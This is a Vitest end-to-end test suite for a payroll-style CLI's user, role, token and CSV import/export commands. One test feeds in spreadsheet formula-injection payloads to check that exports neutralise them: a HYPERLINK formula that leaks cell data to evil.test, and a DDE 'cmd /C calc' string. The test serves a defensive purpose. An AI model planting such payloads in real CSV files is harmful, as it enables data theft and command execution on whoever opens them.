import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { type TestCompany, createTestCompany, testDb } from '../../api/test/factories.js';
import { freshConfigHome, paybench } from './support.js';

interface ListedUser {
  email: string;
  firstName: string;
  lastName: string;
  roles: { key: string }[];
}

describe('paybench users and roles', () => {
  let company: TestCompany;
  let env: Record<string, string>;
  let dir: string;
  let domain: string;
  beforeAll(async () => {
    company = await createTestCompany(await testDb());
    dir = freshConfigHome();
    env = { PAYBENCH_TOKEN: company.users.admin!.token, XDG_CONFIG_HOME: dir };
    domain = `${company.id.slice(-8)}.cli.test`;
  });

  const file = (name: string, text: string): string => {
    const target = path.join(dir, name);
    writeFileSync(target, text);
    return target;
  };
  const listed = (): ListedUser[] => JSON.parse(paybench(['users', 'list', '--json', '--search', domain], env).stdout) as ListedUser[];

  it('rejects a bad file with every line’s problem, exit 2, and writes nothing', () => {
    const bad = file(
      'bad.csv',
      ['email,firstName,lastName,roles,manager', `ok@${domain},Ok,Person,employee,`, `not-an-email,,Person,employee,`, `x@${domain},X,Y,astronaut;employee,`, `y@${domain},Y,Z,employee,boss@${domain}`].join('\n'),
    );
    const run = paybench(['users', 'import', bad], env);
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr.split('\n').filter((line) => line.startsWith('line '))).toEqual([
      'line 3: email: "not-an-email" is not an e-mail address',
      'line 3: firstName: is required',
      'line 4: roles: "astronaut" is not a role of this company',
      `line 5: manager: boss@${domain} is neither in the file nor a user of this company`,
    ]);
    expect(listed()).toEqual([]);
  });

  it('prints the refusal as JSON with every problem under --json, still exit 2', () => {
    const bad = file('bad-json.csv', ['email,firstName,lastName,roles', `not-an-email,,Person,employee`, `x@${domain},X,Y,astronaut`].join('\n'));
    const run = paybench(['users', 'import', bad, '--json'], env);
    expect(run.code).toBe(2);
    expect(JSON.parse(run.stdout)).toEqual({
      error: {
        code: 'rejected',
        message: 'The users file has 3 problems; nothing was written.',
        problems: [
          { line: 2, field: 'email', message: '"not-an-email" is not an e-mail address' },
          { line: 2, field: 'firstName', message: 'is required' },
          { line: 3, field: 'roles', message: '"astronaut" is not a role of this company' },
        ],
      },
    });
    expect(run.stderr).toContain('line 3: roles: "astronaut" is not a role of this company');
    expect(listed()).toEqual([]);
  });

  it('refuses an empty, a header-only and a binary file with exit 2 instead of importing nothing', () => {
    const empty = paybench(['users', 'import', file('empty.csv', '')], env);
    expect(empty.code).toBe(2);
    expect(empty.stdout).toBe('');
    expect(empty.stderr).toBe(`Error: ${path.join(dir, 'empty.csv')} is empty: it needs a header row (email,firstName,lastName) and at least one row; nothing was written.\n`);
    const blank = paybench(['users', 'import', '-', '--json'], env, '\n\n');
    expect(blank.code).toBe(2);
    expect(JSON.parse(blank.stdout)).toEqual({
      error: { code: 'rejected', message: 'The input is empty: it needs a header row (email,firstName,lastName) and at least one row; nothing was written.' },
    });
    const header = paybench(['users', 'import', file('header.csv', 'email,firstName,lastName,roles\n')], env);
    expect(header.code).toBe(2);
    expect(header.stderr).toBe(`Error: ${path.join(dir, 'header.csv')} has a header row but no rows; nothing was written.\n`);
    // The first bytes of an XLSX (a zip archive): not text at all.
    const binary = path.join(dir, 'people.xlsx');
    writeFileSync(binary, Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00, 0x00, 0x00, 0x21, 0x00, 0x62, 0xee, 0x9d, 0x68]));
    const run = paybench(['users', 'import', binary], env);
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toBe(`Error: ${binary} is not a CSV file: it holds binary data, not UTF-8 text. Save it as CSV (UTF-8) and try again; nothing was written.\n`);
    expect(run.stderr).not.toContain('created');
    expect(listed()).toEqual([]);
  });

  it('names the line of a row the contract itself refuses, and reads the file from stdin with -', () => {
    const long = `${'x'.repeat(330)}@${domain}`;
    const run = paybench(['users', 'import', '-', '--dry-run'], env, `email,firstName,lastName\nfine@${domain},A,B\n\n${long},C,D\n`);
    expect(run.code).toBe(2);
    expect(run.stderr.split('\n').filter((line) => line.startsWith('line '))).toEqual(['line 4: email: must NOT have more than 320 characters']);
  });

  it('rejects a file without the columns it needs', () => {
    const run = paybench(['users', 'import', file('columns.csv', 'mail,first\na@b.test,A\n')], env);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('line 1: email: the column is missing');
  });

  it('imports (dry run first), exports the same people back, and re-importing the export changes nothing', () => {
    const people = [
      { email: `ana@${domain}`, firstName: 'Ana', lastName: 'Lima', roles: 'compensation_planner;employee', manager: '' },
      { email: `bo@${domain}`, firstName: 'Bo', lastName: 'Quoted, Jr.', roles: 'employee', manager: `ana@${domain}` },
      { email: `cy@${domain}`, firstName: 'Cy', lastName: 'Dé', roles: '', manager: `ana@${domain}` },
    ];
    const csv = file('people.csv', `email,firstName,lastName,roles,manager\n${people.map((p) => [p.email, p.firstName, `"${p.lastName}"`, p.roles, p.manager].join(',')).join('\n')}\n`);

    const dry = paybench(['users', 'import', csv, '--dry-run'], env);
    expect(dry.code).toBe(0);
    expect(dry.stdout).toBe('3 to create, 0 to update, 0 unchanged\n');
    expect(dry.stderr).toBe('');
    expect(listed()).toEqual([]);

    const real = paybench(['users', 'import', csv], env);
    expect(real.stdout).toBe('3 created, 0 updated, 0 unchanged\n');
    expect(paybench(['users', 'import', csv], env).stdout).toBe('0 created, 0 updated, 3 unchanged\n');

    const exported = paybench(['users', 'export'], env);
    expect(exported.code).toBe(0);
    expect(exported.stderr).toBe('');
    const rows = parse(exported.stdout, { columns: true, bom: true }) as Record<string, string>[];
    const ours = rows.filter((row) => row.email?.endsWith(`@${domain}`)).map((row) => ({ email: row.email, firstName: row.firstName, lastName: row.lastName, roles: row.roles, manager: row.manager }));
    expect(ours).toEqual(people);
    expect(rows).toHaveLength(people.length + 5);

    const again = paybench(['users', 'import', file('exported.csv', exported.stdout), '--dry-run'], env);
    expect(again.stdout).toBe(`0 to create, 0 to update, ${rows.length} unchanged\n`);

    // A new manager is an update; a file without the manager column keeps managers as they are.
    const moved = file('moved.csv', `email,firstName,lastName,roles,manager\ncy@${domain},Cy,Dé,,bo@${domain}\n`);
    expect(paybench(['users', 'import', moved], env).stdout).toBe('0 created, 1 updated, 0 unchanged\n');
    const names = file('names.csv', `email,firstName,lastName,roles\ncy@${domain},Cy,Dé,\n`);
    expect(paybench(['users', 'import', names], env).stdout).toBe('0 created, 0 updated, 1 unchanged\n');
    const after = parse(paybench(['users', 'export'], env).stdout, { columns: true, bom: true }) as Record<string, string>[];
    expect(after.find((row) => row.email === `cy@${domain}`)?.manager).toBe(`bo@${domain}`);
  });

  it('lists users with their manager, as a table and as JSON', () => {
    const table = paybench(['users', 'list', '--search', domain], env);
    expect(table.code).toBe(0);
    expect(table.stderr).toBe('');
    const lines = table.stdout.split('\n');
    const escaped = domain.replace(/[.]/g, '\\.');
    expect(lines).toEqual([
      expect.stringMatching(/^EMAIL\s+NAME\s+ROLES\s+MANAGER\s+STATUS$/),
      expect.stringMatching(new RegExp(`^ana@${escaped}\\s+Ana Lima\\s+compensation_planner;employee\\s+active$`)),
      expect.stringMatching(new RegExp(`^bo@${escaped}\\s+Bo Quoted, Jr\\.\\s+employee\\s+ana@${escaped}\\s+active$`)),
      expect.stringMatching(new RegExp(`^cy@${escaped}\\s+Cy Dé\\s+bo@${escaped}\\s+active$`)),
      '',
    ]);
    // The manager sits under its heading.
    expect(lines[2]?.indexOf(`ana@${domain}`)).toBe(lines[0]?.indexOf('MANAGER'));
    expect(lines[3]?.indexOf(`bo@${domain}`)).toBe(lines[0]?.indexOf('MANAGER'));
    const users = listed() as (ListedUser & { manager: string | null })[];
    expect(users.map((user) => [user.email, user.manager])).toEqual([
      [`ana@${domain}`, null],
      [`bo@${domain}`, `ana@${domain}`],
      [`cy@${domain}`, `bo@${domain}`],
    ]);
  });

  it('assigns a role and lists users as JSON that parses', () => {
    const assign = paybench(['roles', 'assign', 'analyst', `ANA@${domain}`], env);
    expect(assign.code).toBe(0);
    expect(assign.stdout).toBe(`ana@${domain} now holds analyst, compensation_planner, employee\n`);
    const ana = listed().find((user) => user.email === `ana@${domain}`);
    expect(ana?.roles.map((role) => role.key).sort()).toEqual(['analyst', 'compensation_planner', 'employee']);
    expect(paybench(['roles', 'assign', 'Read-only analyst', `ana@${domain}`], env).stdout).toBe(`ana@${domain} already holds analyst\n`);
    const unknown = paybench(['roles', 'assign', 'astronaut', `ana@${domain}`], env);
    expect(unknown.code).toBe(2);
  });

  it('imports and exports roles, refusing to change a built-in one', () => {
    const roles = file('roles.csv', 'key,name,description,permissions\nrecruiter,Recruiter,Makes offers,"{""offers"":[{""authority"":""edit"",""scope"":""all""}]}"\n');
    expect(paybench(['roles', 'import', roles, '--dry-run'], env).stdout).toBe('1 to create, 0 to update, 0 unchanged\n');
    expect(paybench(['roles', 'import', roles], env).stdout).toBe('1 created, 0 updated, 0 unchanged\n');
    const exported = paybench(['roles', 'export'], env).stdout;
    expect(paybench(['roles', 'import', file('roles-export.csv', exported)], env).stdout).toMatch(/^0 created, 0 updated, \d+ unchanged\n$/);
    const builtin = file('builtin.csv', 'key,name,permissions\nemployee,Employee,"{""bands"":[{""authority"":""edit"",""scope"":""all""}]}"\nbad key,,{}\n');
    const refused = paybench(['roles', 'import', builtin], env);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain("line 2: permissions: employee is a built-in role; its permissions cannot be changed");
    expect(refused.stderr).toContain('line 3: key: must be lower-case letters');
    expect(refused.stderr).toContain('line 3: name: is required');
    // A cell that is not JSON is one problem among the others, not the only one reported.
    const mixed = file('mixed.csv', 'key,name,permissions\nok_role,Fine,{}\nbroken,Broken,{not json\nBad Key,,{}\nemployee,Employee,"{""bands"":[{""authority"":""edit"",""scope"":""all""}]}"\n');
    const every = paybench(['roles', 'import', mixed], env);
    expect(every.code).toBe(2);
    expect(every.stdout).toBe('');
    expect(every.stderr).toBe(
      [
        'Error: The roles file has 4 problems; nothing was written.',
        'line 3: permissions: is not a JSON object of permission grants',
        'line 4: key: must be lower-case letters, digits and _, starting with a letter',
        'line 4: name: is required',
        'line 5: permissions: employee is a built-in role; its permissions cannot be changed',
        '',
      ].join('\n'),
    );
    const asJson = JSON.parse(paybench(['roles', 'import', mixed, '--json'], env).stdout) as { error: { problems: { line: number; field: string }[] } };
    expect(asJson.error.problems.map((problem) => `${problem.line} ${problem.field}`)).toEqual(['3 permissions', '4 key', '4 name', '5 permissions']);
    const list = JSON.parse(paybench(['roles', 'list', '--json'], env).stdout) as { key: string }[];
    expect(list.map((role) => role.key)).toContain('recruiter');
    expect(list.map((role) => role.key)).not.toContain('ok_role');
  });

  it('creates, lists and revokes API tokens, and lists jobs', () => {
    const planned = paybench(['tokens', 'create', 'ci', '--expires-in-days', '30', '--dry-run'], env);
    expect(planned.stdout).toBe('Would create the token ci, expiring after 30 days\n');
    const before = JSON.parse(paybench(['tokens', 'list', '--json'], env).stdout) as { name: string }[];
    expect(before.map((token) => token.name)).not.toContain('ci');
    const created = paybench(['tokens', 'create', 'ci'], env);
    expect(created.code).toBe(0);
    const secret = created.stdout.trim();
    const whoami = JSON.parse(paybench(['whoami', '--json'], { ...env, PAYBENCH_TOKEN: secret }).stdout) as { email: string };
    expect(whoami.email).toBe(company.users.admin!.email);
    const tokens = JSON.parse(paybench(['tokens', 'list', '--json'], env).stdout) as { id: string; name: string; prefix: string; revokedAt: string | null }[];
    const ci = tokens.find((token) => token.name === 'ci');
    expect(ci?.revokedAt).toBeNull();
    expect(paybench(['tokens', 'revoke', ci?.id ?? '', '--dry-run'], env).stdout).toBe(`Would revoke ci (${ci?.prefix ?? ''}…)\n`);
    expect(paybench(['whoami'], { ...env, PAYBENCH_TOKEN: secret }).code).toBe(0);
    expect(paybench(['tokens', 'revoke', 'no-such-token', '--dry-run'], env).code).toBe(2);
    expect(paybench(['tokens', 'revoke', ci?.id ?? ''], env).code).toBe(0);
    expect(paybench(['whoami'], { ...env, PAYBENCH_TOKEN: secret }).code).toBe(1);

    const jobs = JSON.parse(paybench(['jobs', 'list', '--json'], env).stdout) as { type: string; status: string; downloadId: string | null }[];
    const job = jobs.find((candidate) => candidate.type === 'usersExport');
    expect(job?.status).toBe('succeeded');
    const download = paybench(['downloads', 'get', job?.downloadId ?? ''], env);
    expect(download.stdout.replace(/^\uFEFF/, '').split('\n')[0]).toBe('email,firstName,lastName,roles,manager,status');
  });

  it('exports names that look like formulas as text, and takes its own exports back unchanged', () => {
    const people = file('formulas.csv', `email,firstName,lastName,roles\nformula@${domain},"=HYPERLINK(""http://evil.test/?leak=""&Q2)",+SUM(1+1),employee\n`);
    expect(paybench(['users', 'import', people], env).stdout).toBe('1 created, 0 updated, 0 unchanged\n');
    const users = paybench(['users', 'export'], env).stdout;
    expect((parse(users, { columns: true, bom: true }) as Record<string, string>[]).find((row) => row.email === `formula@${domain}`)).toMatchObject({
      firstName: `'=HYPERLINK("http://evil.test/?leak="&Q2)`,
      lastName: "'+SUM(1+1)",
    });
    expect(paybench(['users', 'import', file('formulas-export.csv', users), '--dry-run'], env).stdout).toMatch(/^0 to create, 0 to update, \d+ unchanged\n$/);

    const roles = file('formula-roles.csv', `key,name,description,permissions\nformulas,-2+3+cmd|' /C calc'!A0,"@SUM(1,2)",{}\n`);
    expect(paybench(['roles', 'import', roles], env).stdout).toBe('1 created, 0 updated, 0 unchanged\n');
    const exported = paybench(['roles', 'export'], env).stdout;
    expect((parse(exported, { columns: true, bom: true }) as Record<string, string>[]).find((row) => row.key === 'formulas')).toMatchObject({
      name: "'-2+3+cmd|' /C calc'!A0",
      description: "'@SUM(1,2)",
    });
    expect(paybench(['roles', 'import', file('formula-roles-export.csv', exported)], env).stdout).toMatch(/^0 created, 0 updated, \d+ unchanged\n$/);
  });

  it('asks the server to invite the people a file creates with --invite, and only then', () => {
    const invitees = file('invitees.csv', `email,firstName,lastName,roles\ninv1@${domain},Ina,One,employee\ninv2@${domain},Ivo,Two,employee\n`);
    expect(paybench(['users', 'import', invitees, '--dry-run'], env).stdout).toBe('2 to create, 0 to update, 0 unchanged\n');
    const planned = paybench(['users', 'import', invitees, '--dry-run', '--invite'], env);
    expect(planned.code).toBe(0);
    expect(planned.stdout).toBe('2 to create, 0 to update, 0 unchanged; 2 to invite\n');
    const plan = JSON.parse(paybench(['users', 'import', invitees, '--dry-run', '--invite', '--json'], env).stdout) as { invited?: number; dryRun: boolean };
    expect(plan).toMatchObject({ dryRun: true, invited: 2 });
    const sent = paybench(['users', 'import', invitees, '--invite'], env);
    expect(sent.code).toBe(0);
    expect(sent.stdout).toBe('2 created, 0 updated, 0 unchanged; 2 invited\n');
    // Both now hold an open invitation: a second run invites nobody.
    expect(paybench(['users', 'import', invitees, '--invite'], env).stdout).toBe('0 created, 0 updated, 2 unchanged; 0 invited\n');
  });

  it('assigns a role by its key or its name, and a users file without a roles column leaves roles alone', () => {
    const people = file('no-roles.csv', `email,firstName,lastName\nrae@${domain},Rae,Kim\n`);
    expect(paybench(['users', 'import', people], env).stdout).toBe('1 created, 0 updated, 0 unchanged\n');
    const rolesOf = (email: string): string[] => (listed().find((user) => user.email === email)?.roles ?? []).map((role) => role.key).sort();
    // The README's example: "planner" is a word of one role's name, Compensation planner.
    const assigned = paybench(['roles', 'assign', 'planner', `rae@${domain}`], env);
    expect(assigned.code).toBe(0);
    expect(assigned.stdout).toBe(`rae@${domain} now holds compensation_planner\n`);
    for (const name of ['COMPENSATION_PLANNER', 'compensation planner']) {
      expect(paybench(['roles', 'assign', name, `rae@${domain}`], env).stdout).toBe(`rae@${domain} already holds compensation_planner\n`);
    }
    // The same file again changes nothing: without the column, roles are not the file's business.
    expect(paybench(['users', 'import', people], env).stdout).toBe('0 created, 0 updated, 1 unchanged\n');
    expect(rolesOf(`rae@${domain}`)).toEqual(['compensation_planner']);

    // An empty roles cell takes every role away: the dry run names what goes, and writes nothing.
    const emptied = file('empty-roles.csv', `email,firstName,lastName,roles\nrae@${domain},Rae,Kim,\n`);
    const dry = paybench(['users', 'import', emptied, '--dry-run'], env);
    expect(dry.stdout).toBe(`0 to create, 1 to update, 0 unchanged\nWould remove compensation_planner from rae@${domain} (line 2)\n`);
    expect(rolesOf(`rae@${domain}`)).toEqual(['compensation_planner']);
    expect(paybench(['users', 'import', emptied], env).stdout).toBe(`0 created, 1 updated, 0 unchanged\nRemoved compensation_planner from rae@${domain} (line 2)\n`);
    expect(rolesOf(`rae@${domain}`)).toEqual([]);

    const unknown = paybench(['roles', 'assign', 'astronaut', `rae@${domain}`], env);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain('There is no role "astronaut". The roles are:');
    expect(unknown.stderr).toContain('compensation_planner (Compensation planner)');
    expect(unknown.stderr).toContain('analyst (Read-only analyst)');
    // With a second planner among the roles, "planner" could mean either: refused, naming both.
    const second = file('second-planner.csv', 'key,name,permissions\nheadcount_planner,Headcount planner,{}\n');
    expect(paybench(['roles', 'import', second], env).code).toBe(0);
    const ambiguous = paybench(['roles', 'assign', 'planner', `rae@${domain}`], env);
    expect(ambiguous.code).toBe(2);
    expect(ambiguous.stderr).toContain('"planner" could be any of compensation_planner (Compensation planner), headcount_planner (Headcount planner); name one by its key.');
    expect(rolesOf(`rae@${domain}`)).toEqual([]);
  });

  it('prints shell completion for bash and zsh', () => {
    const bash = paybench(['completion', 'bash']);
    expect(bash.stdout).toContain('complete -o default -F _paybench paybench');
    expect(bash.stdout).toContain('import export list');
    expect(paybench(['completion', 'zsh']).stdout).toContain('#compdef paybench');
    expect(paybench(['completion', 'fish']).code).toBe(2);
  });
});
